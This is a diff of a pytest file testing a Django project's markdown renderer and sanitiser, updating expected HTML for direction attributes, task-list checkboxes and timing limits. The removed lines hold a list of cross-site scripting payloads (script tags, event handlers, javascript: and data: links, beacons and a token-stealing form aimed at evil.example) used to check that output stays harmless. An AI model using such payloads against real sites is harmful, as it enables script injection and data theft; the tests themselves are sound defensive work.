@@ -2,7 +2,6 @@
 
 import json
 import re
-from html.parser import HTMLParser
 from pathlib import Path
 from threading import Thread
 from time import thread_time
@@ -10,106 +9,13 @@ from time import thread_time
 import pytest
 from django.utils.safestring import SafeString
 
-from conderis.web import markdown
-from conderis.web.markdown import MOST_CHARACTERS, render, render_outlined
+from conderis.web.markdown import MOST_CHARACTERS, MOST_SECONDS, laying_out, render, render_outlined
+from conderis.web.markdown.keeping import forget_all
+from tests.web.markdown_texts import ATTACKS, Seen, assert_harmless, links
 
 pytestmark = pytest.mark.no_database
 
 HANDED = Path(__file__).parents[3] / "shared" / "cases" / "files" / "tricky-strings-handed.json"
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<style>*{background:url(//evil.example)}</style>",
-    '<p style="background:url(//evil.example)">x</p>',
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<!--<img src='--><img src=x onerror=alert(1)>",
-    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
-    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "[x](javascript:alert(1))",
-    "[x]( javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#x09;script:alert(1))",
-    "[x](java&Tab;script:alert&lpar;1&rpar;)",
-    "[x](&#106;avascript:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](\x01javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.example/1)",
-    "[x](//evil.example)",
-    "[x](/settings/keys/)",
-    "[x](\\\\evil.example)",
-    "[x]\n\n[x]: javascript:alert(1)",
-    "[x][y]\n\n[y]: <javascript:alert(1)> 'title'",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![x](https://evil.example/pixel.png)",
-    "![x](//evil.example/pixel.png)",
-    '![x](https://evil.example/p.png "onerror=alert(1)")',
-    '[x](https://ok.example "\\" onmouseover=alert(1) ")',
-    '[x](https://ok.example/"onmouseover=alert(1))',
-    "[![x](javascript:alert(1))](javascript:alert(2))",
-    '```html" onmouseover=alert(1)\n<script>alert(1)</script>\n```',
-    "`<script>alert(1)</script>`",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
-    "# <img src=x onerror=alert(1)>",
-    "# main\n\n[x](#main)",
-    "[[wiki|javascript:alert(1)]]",
-    "\0<script>alert(1)</script>",
-    "\ud83d<script>alert(1)</script>",
-]
-
-TAGS = {
-    "a", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li",
-    "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
-}  # fmt: skip
-VALUES = {
-    "class": r"r|prose-scroll|meta|kept source",
-    "href": r"https?://[^\s\"<>]*|mailto:[^\s\"<>]*|#h-[^\s\"<>]*",
-    "id": r"h-[\w-]+",
-    "rel": r"nofollow noopener ugc",
-    "start": r"\d+",
-    "tabindex": r"0",
-}
-
-
-class Seen(HTMLParser):
-    """Every tag and attribute that a browser would find."""
-
-    def __init__(self, html: str) -> None:
-        super().__init__()
-        self.tags: list[tuple[str, dict[str, str | None]]] = []
-        self.feed(html)
-        self.close()
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append((tag, dict(attrs)))
-
-
-def assert_harmless(html: str) -> None:
-    for tag, attributes in Seen(html).tags:
-        assert tag in TAGS
-        for name, value in attributes.items():
-            assert name in VALUES, (tag, name)
-            assert re.fullmatch(VALUES[name], value or ""), (tag, name, value)
-
-
-def links(html: str) -> list[str | None]:
-    return [attributes.get("href") for tag, attributes in Seen(html).tags if tag == "a"]
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -129,7 +35,7 @@ def test_the_handed_strings_do_no_harm() -> None:
 def test_what_is_no_link_stays_as_it_was_written() -> None:
     html = render("[press](javascript:alert(1)) and [there](docs/deploy.md)")
 
-    assert html == "<p>[press](javascript:alert(1)) and [there](docs/deploy.md)</p>\n"
+    assert html == '<p dir="auto">[press](javascript:alert(1)) and [there](docs/deploy.md)</p>\n'
 
 
 def test_links_lead_to_the_web_to_mail_and_to_headings_of_the_text() -> None:
@@ -143,8 +49,8 @@ def test_an_image_is_a_link_that_loads_nothing() -> None:
     html = render("![the plan](https://x.example/plan.png)")
 
     assert html == (
-        '<p><a href="https://x.example/plan.png" rel="nofollow noopener ugc">'
-        "Image: the plan</a></p>\n"
+        '<p dir="auto"><a href="https://x.example/plan.png" '
+        'rel="nofollow noopener noreferrer ugc">Image: the plan</a></p>\n'
     )
 
 
@@ -163,29 +69,72 @@ def test_headings_fit_below_the_one_of_the_page() -> None:
         (3, "Two"),
         (6, "Six"),
     ]
-    assert re.findall(r"<(h\d) id", rendered.html) == ["h2", "h3", "h6"]
-    assert '<h4 id="h-a">' in render("# A", base_level=4)
+    assert re.findall(r"<(h\d) ", rendered.html) == ["h2", "h3", "h6"]
+    assert '<h4 dir="auto" id="h-a">' in render("# A", base_level=4)
 
 
 def test_headings_with_the_same_words_have_ids_of_their_own() -> None:
     anchors = [each.anchor for each in render_outlined("# A\n# A\n# !?\n# A").headings]
 
     assert anchors == ["h-a", "h-a-2", "h-section", "h-a-3"]
+    twice = [each.anchor for each in render_outlined("# a 2\n# a\n# a\n# a 2\n# a").headings]
+    assert twice == ["h-a-2", "h-a", "h-a-3", "h-a-2-2", "h-a-4"]
 
 
 def test_tables_scroll_and_align_numbers_without_styles() -> None:
     html = render("| name | size |\n|---|---:|\n| a | 1 |")
 
-    assert html.startswith('<div class="prose-scroll" tabindex="0"><table>')
+    assert html.startswith('<div class="prose-scroll" tabindex="0"><table dir="auto">')
     assert '<th class="r">size</th>' in html
     assert "style" not in html
 
 
 def test_code_is_shown_as_it_is() -> None:
-    html = render("```py\nif a < b:\n    pass\n```\n\n~~old~~ `x & y`")
+    html = render("```\nif a < b:\n    pass\n```\n\n    4 < 5\n\n~~old~~ `x & y`")
 
-    assert '<pre tabindex="0"><code>if a &lt; b:\n    pass\n</code></pre>' in html
-    assert "<s>old</s> <code>x &amp; y</code>" in html
+    assert '<pre dir="ltr" tabindex="0"><code>if a &lt; b:\n    pass\n</code></pre>' in html
+    assert '<pre dir="ltr" tabindex="0"><code>4 &lt; 5\n</code></pre>' in html
+    assert '<s>old</s> <code dir="ltr">x &amp; y</code>' in html
+
+
+def test_tasks_of_a_list_have_boxes_that_say_how_they_are_and_cannot_be_changed() -> None:
+    html = render("- [ ] boil\n- [x] pour\n  1. [X] green\n- plain [x]\n\n[ ] no list")
+
+    boxes = [attributes for tag, attributes in Seen(html).tags if tag == "input"]
+    assert [(each["aria-label"], "checked" in each) for each in boxes] == [
+        ("Not done", False),
+        ("Done", True),
+        ("Done", True),
+    ]
+    assert all(each["type"] == "checkbox" and "disabled" in each for each in boxes)
+    assert "plain [x]" in html
+    assert "[ ] no list" in html
+
+
+def test_tasks_of_several_paragraphs_have_one_box_each() -> None:
+    html = render("- [ ] boil\n\n  slowly\n\n- [x] # Pour\n")
+
+    assert html.count("<input") == 2
+    assert re.search(r"<p><input[^>]*> boil</p>\s*<p>slowly</p>", html)
+
+
+def test_each_outer_block_says_that_it_runs_as_its_own_letters_do() -> None:
+    blocks = ["# שלום", "مرحبا", "- שלום\n- hello", "> مرحبا", "1. a", "| ש |\n|---|\n| a |",
+              "```\nx\n```"]  # fmt: skip
+
+    seen = Seen(render("\n\n".join(blocks))).tags
+    told = [(tag, attributes["dir"]) for tag, attributes in seen if "dir" in attributes]
+
+    # None inside another: a browser looks for the first letter past those that have one.
+    assert told == [
+        ("h2", "auto"),
+        ("p", "auto"),
+        ("ul", "auto"),
+        ("blockquote", "auto"),
+        ("ol", "auto"),
+        ("table", "auto"),
+        ("pre", "ltr"),
+    ]
 
 
 def test_the_html_is_marked_as_safe_and_keeps_nothing_of_another_text() -> None:
@@ -200,14 +149,14 @@ def test_a_long_text_is_shown_as_source_with_the_reason() -> None:
     html = render("<b>" + "a" * MOST_CHARACTERS)
 
     assert "over 65,536 characters" in html
-    assert '<pre class="kept source" tabindex="0">&lt;b&gt;aaa' in html
+    assert '<pre class="kept source" dir="auto" tabindex="0">&lt;b&gt;aaa' in html
     assert "kept source" not in render("a" * MOST_CHARACTERS)
 
 
 def test_a_text_that_takes_too_long_is_shown_as_source_with_the_reason(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    monkeypatch.setattr(markdown, "MOST_SECONDS", 0.02)
+    monkeypatch.setattr(laying_out, "MOST_SECONDS", 0.02)
 
     html = render("*a **b " * 9_000)
 
@@ -238,6 +187,13 @@ DEAR = {
     "angle brackets": "<a" * (N // 2),
     "entities": "&a" * (N // 2),
     "lines": "a\n" * (N // 2),
+    "numbers": "a/b#1 " * (N // 6),
+    "what looks like numbers": "a/b" * (N // 3),
+    "what looks like projects": "a-." * (N // 3),
+    "tasks": "- [x] a\n" * (N // 8),
+    "tasks inside tasks": "\n".join(" " * (2 * each) + "- [x] a" for each in range(230)),
+    "many short codes": "```py\n1\n```\n" * (N // 12),
+    "one long code": "```py\n" + "a=1\n" * ((N - 10) // 4),
 }
 
 
@@ -249,7 +205,7 @@ def test_no_text_takes_much_longer_than_it_may(shape: str) -> None:
     html = render(DEAR[shape])
 
     # One rule may run on over the limit, and sanitising comes after it.
-    assert thread_time() - before < 2 * markdown.MOST_SECONDS
+    assert thread_time() - before < 2 * MOST_SECONDS
     assert_harmless(html)
 
 
@@ -265,6 +221,7 @@ def test_texts_rendered_at_once_do_not_meet() -> None:
     for thread in threads:
         thread.join()
 
+    forget_all()
     assert all(html == render_alone(number) for number, html in found.items())
     assert len(found) == 8
 
